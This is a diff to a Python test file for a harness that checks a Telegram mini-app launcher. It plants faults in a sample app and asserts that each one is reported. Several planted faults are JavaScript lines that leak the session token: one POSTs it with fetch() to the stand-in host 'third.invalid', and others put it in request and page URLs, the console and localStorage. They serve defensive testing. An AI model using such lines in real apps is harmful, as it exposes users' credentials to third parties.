@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import json
 import re
 import zipfile
@@ -11,8 +12,11 @@ from pathlib import Path
 import pytest
 from pydantic import SecretStr
 
-from launcher.metapro import CATALOGUE, Screen, Verdict
-from tests.metapro_pages import Stage, browser, driven, failed, stage
+from launcher.metapro import CATALOGUE, Launch, MetaproDriver, Screen, Verdict
+from launcher.metapro.steps.launch import start_parameter
+from launcher.metapro.steps.login import app_login
+from tests.metapro_drives import APP, settings_for
+from tests.metapro_pages import PATIENT, Stage, browser, driven, failed, stage
 
 __all__ = ["browser", "stage"]
 
@@ -64,27 +68,47 @@ GATE = "element(state === 'gated' ? 'gate' : 'app').hidden = false;"
 BEGIN = "await Promise.all([signIn(), showLeaderboard(), meetConnectedWallet()]);"
 TELL = "tell(what, problem.message || String(problem));"
 THIRD = "fetch('http://third.invalid/', { method: 'POST', body: session.token }).catch(() => 0);"
+IN_ADDRESSES = (
+    "fetch(`/?t=${encodeURIComponent(session.token)}`).catch(() => 0);"
+    "history.replaceState(null, '', `?t=${session.token}`);"
+)
 BROKEN = {
     "says what its launch does not": Broken(
         {
             "telegramSimpleString: rawInitData": "telegramSimpleString: `${rawInitData}&x=1`",
             "initData.get('start_param') || undefined": "'friend'",
+            "projectId: config.ids.project_id": "projectId: 'another'",
+            "platformId: config.ids.platform_id": "platformId: null",
+            "telegramBotName: config.ids.bot_name": "telegramBotName: '@demo_bot'",
         },
-        {"L1.app": ("byte for byte",), "T3": ("no start parameter",)},
+        {
+            "L1.app": (
+                "byte for byte",
+                "projectId is not the configured one",
+                "platformId is not the configured one",
+                "telegramBotName is not the configured one",
+            ),
+            "T3": ("no start parameter",),
+        },
         start_param=None,
         steps=("L1",),
     ),
     "wrong in five ways": Broken(
         {
             "        referralCode,\n": "",
-            "know(account);\n": f"know(account); console.log(session.token); {THIRD}\n",
+            "know(account);\n": f"know(account); console.log(session.token); {THIRD} {IN_ADDRESSES}\n",
             "`Request ID ${hash}`": "`Request ID A-HASH-OF-ITS-OWN`",
             TELL: f"if (problem.code !== 4001) {TELL}",
             "problem.status !== 401 || !again": "problem.status !== 401",
         },
         {
             "T3": ("does not reach the login",),
-            "S1": ("in the console", "goes to third.invalid"),
+            "S1": (
+                "in the address of a request",
+                "in the address of the page",
+                "in the console",
+                "goes to third.invalid",
+            ),
             "W2.app": ("another hash than Metapro issued",),
             "W4.rejected": ("says nothing about a refused signature",),
             "X3": ("a loop",),
@@ -92,6 +116,7 @@ BROKEN = {
         switches={"leaderboard_reads": "key"},  # of which it tells
     ),
 }
+LATER = "setTimeout(() => { throw new Error('not expected'); })"
 SLOWLY_BROKEN = {
     "blank on desktops": Broken(
         {GATE: f"if (state === 'gated') document.body.replaceChildren(); else {GATE}"},
@@ -102,6 +127,24 @@ SLOWLY_BROKEN = {
     ),
     "deaf to the wallet": Broken(
         {"provider.on?.('accountsChanged'": "void ('accountsChanged'"}, {"W4.account": ("old account",)}
+    ),
+    "gives up at a 401": Broken(
+        {"problem.status !== 401 || !again": "true"}, {"X3": ("does not log in again",)}
+    ),
+    "fails with errors, and asks only once": Broken(
+        {
+            "provider.on?.('chainChanged', showChain);": f"provider.on?.('chainChanged', () => {LATER});",
+            TELL: f"{TELL} if (what === 'leaderboard') {LATER};",
+            "let wallet = null;": "let wallet = null; let begun = false;",
+            "await attempt('attaching', async () => {": (
+                "if (begun) return; begun = true; await attempt('attaching', async () => {"
+            ),
+        },
+        {
+            "W4.chain": ("the page fails with", "not expected"),
+            "W4.rejected": ("does not ask again",),
+            "D1.leaderboard": ("502 in HTML: the page fails with", "not expected"),
+        },
     ),
     "silent about faults": Broken(
         {"items('error', [...problems.values()]);": ""}, {"D1.leaderboard": ("tells nothing",)}
@@ -127,7 +170,7 @@ async def test_each_fault_of_an_app_fails_its_own_step(stage: Stage, broken: Bro
     report = await driven(
         stage, *broken.told, *broken.steps, broken=broken.changes, start_param=broken.start_param,
         switches=broken.switches,
-        screen=Screen(seconds=4.0),
+        screen=Screen(seconds=8.0),
     )  # fmt: skip
     assert failed(report).keys() == broken.told.keys()
     untold = [
@@ -147,8 +190,10 @@ async def test_an_app_that_is_careless_with_its_token_is_told_so(stage: Stage) -
         "authorization: token, 'x-account-userid': userId": "authorization: `Bearer ${token}`",
         BEGIN: "session = { token: 'x' }; await me(); session = null; " + BEGIN,
         "`${what}: ${problem}`": "`${'.'.repeat(352)}${session?.token}`",
+        "know(account);\n": "know(account); localStorage.setItem('kept', session.token);\n",
     }
-    report = await driven(stage, "X3", broken=careless)
+    report = await driven(stage, "X3", "S1", broken=careless)
+    assert report["S1"].warnings == ("the token is in localStorage, and outlives the session",)
     assert "before it logs in" in report["L1.app"].warnings[0]
     for step in ("L1.app", "X3"):
         assert report[step].warnings[-2:] == (
@@ -158,6 +203,41 @@ async def test_an_app_that_is_careless_with_its_token_is_told_so(stage: Stage) -
     told = json.dumps(report.to_json())
     assert "then it tells: ......" in report["X3"].cause
     assert [token for token in stage.metapro.accounts.tokens if token[:6] in told] == []
+
+
+async def test_an_app_is_judged_by_its_own_launch_when_the_driver_has_a_newer_one(stage: Stage) -> None:
+    driver = MetaproDriver(settings_for(stage.metapro), screen=PATIENT)
+    async with (
+        stage.launcher.open(APP, start_param="mine") as newer,
+        stage.launcher.open(APP, start_param="friend", hosting=driver.hosting()) as app,
+        driver._session(app, None) as drive,
+    ):
+        drive.fresh = Launch.of(newer)
+        assert drive.newest.raw != drive.launched.raw
+        assert (await app_login(drive)).text == "our init data unchanged, the configured ids"
+        assert (await start_parameter(drive)).text == "the start parameter is the login's referralCode"
+
+
+async def test_an_app_whose_script_never_ends_does_not_stop_the_drive(
+    stage: Stage, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("launcher.metapro.watch.READING", 0.3)
+    screen = Screen(seconds=1.0)
+    read = "  const text = await response.text();\n"
+    async with asyncio.timeout(40):
+        stuck = {read: f"{read}  if (path.includes('login')) for (;;);\n"}
+        report = await driven(stage, "S1", broken=stuck, screen=screen)
+    assert failed(report) == {"L1.app": "the app's login is answered, and then its page hangs"}
+
+
+async def test_a_key_that_the_page_has_is_in_no_recording(stage: Stage, tmp_path: Path) -> None:
+    trace = tmp_path / "trace.zip"
+    report = await driven(stage, "B3", switches={"page_has_leaderboard_key": True}, trace=trace)
+    assert report["B3"].warnings[0] == "the leaderboard key is in what the page loads"
+    with zipfile.ZipFile(trace) as archive:
+        told = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8", "replace")
+    assert "leaderboard_key" in told
+    assert stage.metapro.ids["leaderboard_key"] not in told
 
 
 ON_LOAD = {
